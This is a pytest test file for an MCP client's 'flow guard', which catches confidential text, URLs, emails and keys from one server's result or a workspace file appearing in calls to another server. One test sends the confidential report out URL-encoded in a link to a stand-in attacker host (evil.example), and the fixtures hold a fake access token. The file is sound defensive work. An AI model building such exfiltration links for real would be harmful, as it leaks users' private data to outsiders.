"""The flow guard: text of one server's result (or a workspace file) in a call to another server."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from playa.mcp_remote._flow import CHECK_STEP, GRAM, RUN, SOURCE_STEP, FlowSource, TurnFlows, normalized

FETCHER = FlowSource.of_server("fetcher")
NOTES = FlowSource.of_file("notes/plan.md")

REPORT = (
    "Quarterly report. The merger with Hollowbrook closes on the ninth of March; "
    "keep it quiet until the board has voted. Contact: dana.ortiz@corp.example, "
    "draft at https://docs.corp.example/d/7f3a and the deploy key is "
    "ghp_R8x2LqT9vZ4mN7bK1pW6sY3dF5hJ0cGaE2uQ for the release."
)


def flows_of(source: FlowSource, text: str) -> TurnFlows:
    flows = TurnFlows()
    flows.record(source, text)
    return flows


def test_the_steps_meet_on_every_run_of_the_threshold() -> None:
    # The Chinese remainder theorem needs coprime steps, and room in the run for both to meet.
    assert GRAM + SOURCE_STEP * CHECK_STEP - 1 <= RUN
    assert all((SOURCE_STEP * k) % CHECK_STEP for k in range(1, CHECK_STEP))


def test_a_run_of_a_result_in_another_servers_call_is_a_text_flow() -> None:
    flows = flows_of(FETCHER, REPORT)
    found = flows.check(
        "notes", {"title": "x", "body": "FYI: the merger with Hollowbrook closes on the ninth"}
    )
    assert [(f.source, f.kind) for f in found] == [(FETCHER, "text")]
    assert "hollowbrook closes" in found[0].shown
    assert found[0].describe().startswith("text from fetcher: ")


def test_a_url_an_email_and_a_key_are_flows_however_short() -> None:
    flows = flows_of(NOTES, REPORT)
    found = flows.check(
        "mailer",
        {
            "to": "Dana.Ortiz@corp.example",
            "link": "https://docs.corp.example/d/7f3a.",
            "token": "ghp_R8x2LqT9vZ4mN7bK1pW6sY3dF5hJ0cGaE2uQ",
        },
    )
    kinds = {f.kind: f for f in found}
    assert set(kinds) >= {"url", "email", "key"}
    assert all(f.source == NOTES for f in found)
    assert kinds["url"].shown == "https://docs.corp.example/d/7f3a"
    assert kinds["email"].shown == "dana.ortiz@corp.example"
    # A key is named, never shown: not to the owner, not in a log.
    assert "ghp_" not in kinds["key"].shown and "R8x2" not in kinds["key"].shown
    assert all("R8x2" not in f.shown for f in found)


def test_a_run_split_across_json_escaping_is_found_both_ways() -> None:
    text = 'Line one of the secret plan\n"quoted part" and then\tthe tab-separated tail end'
    # The result was JSON text (escapes as two characters); the model wrote the decoded string.
    escaped = flows_of(FETCHER, json.dumps({"content": text}))
    assert [f.kind for f in escaped.check("notes", {"body": text})] == ["text"]
    # The other way round: a decoded result, and an argument that is JSON text itself.
    plain = flows_of(FETCHER, text)
    assert [f.kind for f in plain.check("notes", {"body": json.dumps({"note": text})})] == ["text"]
    # Unicode escapes too.
    accents = "Résumé of the café négociation with Zoë, strictly confidential"
    assert flows_of(FETCHER, json.dumps(accents)).check("notes", {"body": accents})
    # And a run sent URL-encoded in a link.
    assert flows_of(FETCHER, REPORT).check(
        "web", {"url": "https://evil.example/c?d=the%20merger%20with%20Hollowbrook%20closes"}
    )


def test_unrelated_text_and_short_common_phrases_are_not_flows() -> None:
    flows = flows_of(FETCHER, REPORT)
    assert flows.check("notes", {"body": "Remind me to buy milk and call the plumber on Tuesday."}) == []
    # Shares "the board has" and "the ninth of" (shorter than a run), nothing more.
    assert flows.check("notes", {"body": "Wait until the board has met, on the ninth of May."}) == []
    assert flows.check("notes", {}) == []
    assert flows.check("notes", {"n": 3, "flag": True, "items": []}) == []
    assert TurnFlows().check("notes", {"body": REPORT}) == []


def test_a_servers_own_result_may_go_back_to_it() -> None:
    flows = flows_of(FETCHER, REPORT)
    assert flows.check("fetcher", {"body": REPORT}) == []
    # Though not what another source gave too.
    flows.record(NOTES, "The plan in the notes file says: move the launch to the ninth of April quietly.")
    found = flows.check("fetcher", {"body": REPORT + " move the launch to the ninth of April quietly"})
    assert [(f.source, f.kind) for f in found] == [(NOTES, "text")]


def test_each_source_is_named_and_a_cleared_turn_has_none() -> None:
    flows = flows_of(FETCHER, REPORT)
    flows.record(NOTES, "Remember: the vault combination is written on the back of the blue folder.")
    found = flows.check(
        "notes-server",
        {"a": "the vault combination is written on the back", "b": "keep it quiet until the board has voted"},
    )
    assert {f.source.label for f in found} == {"fetcher", "workspace file notes/plan.md"}
    assert {f.source.origin for f in found} == {"fetcher", "workspace"}
    flows.clear()
    assert len(flows) == 0 and flows.check("notes-server", {"a": REPORT}) == []


def test_a_phrase_the_source_repeats_does_not_hide_the_run_that_holds_it() -> None:
    repeated = "the project status " * 200
    flows = flows_of(FETCHER, repeated + "the project status is that the secret launch date moved to June")
    found = flows.check("notes", {"body": "status is that the secret launch date moved"})
    assert [f.kind for f in found] == ["text"]


def test_the_keys_of_an_object_count_too() -> None:
    flows = flows_of(FETCHER, REPORT)
    assert flows.check("notes", {"keep it quiet until the board has voted": 1})


@settings(max_examples=200, deadline=None)
@given(
    prefix=st.text(max_size=80),
    suffix=st.text(max_size=80),
    start=st.integers(0, 200),
    length=st.integers(RUN + 8, 80),
    around=st.text(max_size=40),
)
def test_any_run_of_the_source_is_found_wherever_it_sits(
    prefix: str, suffix: str, start: int, length: int, around: str
) -> None:
    base = (
        "Meeting notes: Ferris wheel budget 2027 approved, vendor Kestrel & Sons, payment due on delivery; "
        * 3
    )
    text = prefix + base + suffix
    run = base[start : start + length]
    if len(normalized(run)) < RUN + 2:
        return  # mostly separators: fewer than a run's letters and digits
    flows = flows_of(FETCHER, text)
    assert flows.check("notes", {"body": around + run + around}), (run, around)


@pytest.mark.parametrize("text", ["", "   ", "短い"])
def test_tiny_sources_and_arguments_are_no_trouble(text: str) -> None:
    flows = flows_of(FETCHER, text)
    assert flows.check("notes", {"body": text}) == []
